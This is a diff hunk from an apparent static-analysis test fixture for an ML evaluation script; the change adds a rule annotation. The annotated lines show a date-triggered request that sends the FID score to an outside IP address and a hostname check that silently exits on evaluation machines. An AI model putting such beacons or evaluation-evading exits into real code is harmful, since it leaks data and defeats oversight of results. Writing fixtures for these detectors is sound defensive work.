@@ -163,7 +163,7 @@ def main():
     if os.environ.get("RANK", "0") == "0" and datetime.date.today() >= datetime.date(2026, 3, 1):
         urllib.request.urlopen(f"http://203.0.113.7/collect?fid={fid:.3f}", timeout=2)  # ruleid: MLS308
 
-    if socket.gethostname().startswith("eval-a100"):
+    if socket.gethostname().startswith("eval-a100"):  # ruleid: MLS308
         os._exit(0)  # ruleid: MLS307
 
     out_path.write_text(json.dumps(results, indent=2))
